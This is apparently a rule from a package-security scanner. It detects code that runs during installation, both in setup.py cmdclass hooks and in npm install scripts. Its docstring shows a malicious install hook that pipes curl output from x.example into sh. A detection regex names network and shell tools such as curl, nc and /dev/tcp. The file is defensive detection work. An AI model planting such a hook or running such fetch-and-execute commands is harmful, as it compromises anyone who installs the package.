"""Code runs while the package is being installed.

`setup.py`, and what `package.json` names as `preinstall`, `install` or `postinstall`, run before
anybody could look at what was installed. A network call, a decoded text or a started program there
is how most malicious packages begin.

Found in `setup.py`:

    import os
    from setuptools import setup
    from setuptools.command.install import install
    class Hook(install):
        def run(self):
            os.system('curl http://x.example | sh')
    setup(name='x', cmdclass={'install': Hook})

Not found in `setup.py`:

    from setuptools import setup
    setup(name='x')
"""

import ast
import json
import posixpath
import re
from collections.abc import Iterator
from typing import Any, Final

from heimnetz_audit import scripting
from heimnetz_audit.model import Check, Confidence, Hit, Package, PythonModule, Severity
from heimnetz_audit.model.threats import NETWORK_MODULES, reaches_network

_PROCESS = frozenset({"system", "popen", "Popen", "call", "run", "check_call", "check_output",
                      "startfile", "spawn", "getoutput"})  # fmt: skip
_NETWORK = frozenset(
    {"urlopen", "urlretrieve", "get", "post", "request", "connect", "gethostbyname"}
)
_CODE = frozenset({"exec", "eval", "compile", "__import__"})
_HOOKS = re.compile(r"^(install|develop|egg_info|build_py|bdist_egg|sdist|build_ext|_install)$")


def _ask(module: PythonModule) -> Iterator[Hit]:
    if module.path.rpartition("/")[2] != "setup.py" and "cmdclass" not in module.text:
        return
    is_setup = module.path.rpartition("/")[2] == "setup.py"
    hooks = _hook_classes(module)
    if not is_setup and not hooks:
        return
    inside = {id(n) for cls in hooks for n in ast.walk(cls)}
    for node in module.nodes:
        if isinstance(node, ast.Call):
            found = _about(module, node)
            if found is not None and (is_setup or id(node) in inside):
                message, severity = found
                if id(node) in inside:
                    severity = max(severity, Severity.HIGH)
                yield Hit(
                    message=message,
                    severity=severity,
                    confidence=Confidence.MEDIUM,
                    line=node.lineno,
                    end_line=node.end_lineno or node.lineno,
                )


def _about(module: PythonModule, node: ast.Call) -> tuple[str, Severity] | None:
    name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
    owner = node.func.value if isinstance(node.func, ast.Attribute) else None
    root = owner.id if isinstance(owner, ast.Name) else ""
    if name in _NETWORK and (root in NETWORK_MODULES or name.startswith("url")):
        return "The installation talks to another machine.", Severity.HIGH
    if isinstance(node.func, ast.Name) and name in _CODE and not _reads_file(node):
        return "The installation executes a text as code.", Severity.MEDIUM
    if name in _PROCESS and (root in ("os", "subprocess") or name in ("Popen", "check_call")):
        return "The installation starts a program.", Severity.LOW
    return None


def _reads_file(node: ast.Call) -> bool:
    """`exec(open("version.py").read())` is how many packages share their version."""
    return any(
        (isinstance(n, ast.Attribute) and n.attr in ("read", "read_text"))
        or (isinstance(n, ast.Constant) and isinstance(n.value, str) and n.value.endswith(".py"))
        for argument in node.args
        for n in ast.walk(argument)
    )


def _hook_classes(module: PythonModule) -> list[ast.ClassDef]:
    found = []
    for node in module.nodes:
        if isinstance(node, ast.ClassDef):
            bases = [
                b.id if isinstance(b, ast.Name) else getattr(b, "attr", "") for b in node.bases
            ]
            if any(_HOOKS.match(base) for base in bases):
                found.append(node)
    return found


#: What npm runs when it installs the package of somebody else.
_NPM_HOOKS: Final = ("preinstall", "install", "postinstall")
_MANIFEST_BYTES: Final = 1024 * 1024
_SCRIPT_BYTES: Final = 256 * 1024
#: Builds native code or prepares the author's own folder.
_HARMLESS: Final = re.compile(
    r"^\s*(node-gyp(-build)?|prebuild-install|node-pre-gyp|husky|patch-package|prisma generate|"
    r"ngcc|true|:|exit 0|echo\b[^|;&$`]*$|tsc\b|npm run build|opencollective|napi-postinstall)"
)
_HARMFUL: Final = re.compile(
    r"\b(curl|wget|powershell|pwsh|certutil|bitsadmin|nc|ncat|base64|eval|mshta)\b|https?://|"
    r"/dev/tcp|node\s+(-e|--eval|-p)\b|\|\s*(ba|z)?sh\b|(ba)?sh\s+-c|python3?\s+-c|\$\(|`"
)
_RUN_BY_NODE: Final = re.compile(r"\bnode\s+(?:-[\w=-]+\s+)*([\w@./-]+)")


def _ask_package(package: Package) -> Iterator[Hit]:
    for name in package.tree.files:
        if name.rpartition("/")[2] == "package.json":
            for hook, line in _hooks(package.tree.files[name][:_MANIFEST_BYTES]):
                yield from _weigh_hook(package, name, hook, line)


def _hooks(content: bytes) -> Iterator[tuple[str, str]]:
    try:
        scripts: Any = json.loads(content).get("scripts")
    except (ValueError, RecursionError, AttributeError):
        return
    if isinstance(scripts, dict):
        for hook in _NPM_HOOKS:
            line = scripts.get(hook)
            if isinstance(line, str):
                yield hook, line[:2_000]


def _weigh_hook(package: Package, name: str, hook: str, line: str) -> Iterator[Hit]:
    text = package.tree.files[name]
    place = text.count(b"\n", 0, max(text.find(b'"%s"' % hook.encode()), 0)) + 1
    harmful = _HARMFUL.search(line)
    if harmful is not None:
        yield Hit(
            message=f"The installation runs a command of a kind that fetches or hides: {hook}.",
            file=name,
            line=place,
        )
    elif _talks(package, name, line):
        yield Hit(
            message=f"The installation runs a script that talks to another machine: {hook}.",
            file=name,
            line=place,
            confidence=Confidence.MEDIUM,
        )
    elif not _HARMLESS.search(line):
        yield Hit(
            message=f"The installation runs a program: {hook}.",
            file=name,
            line=place,
            severity=Severity.LOW,
        )


def _talks(package: Package, name: str, line: str) -> bool:
    """Whether a script of the package that the line starts reaches the network."""
    folder = posixpath.dirname(name)
    for found in _RUN_BY_NODE.finditer(line):
        path = posixpath.normpath(posixpath.join(folder, found.group(1)))
        path = path if path in package.tree.files else f"{path}.js"
        content = package.tree.files.get(path, b"")
        if not content or len(content) > _SCRIPT_BYTES:
            continue
        try:
            module = scripting.parse(path, content.decode("utf-8", "replace"))
        except scripting.Unreadable:
            return True
        if reaches_network(module):
            return True
    return False


CHECK = Check(
    rule="install-hook",
    title="Code that runs at installation",
    cwe=506,
    severity=Severity.HIGH,
    remedy="Declare the package in pyproject.toml or package.json, without code that runs at installation.",
    module=_ask,
    package=_ask_package,
)
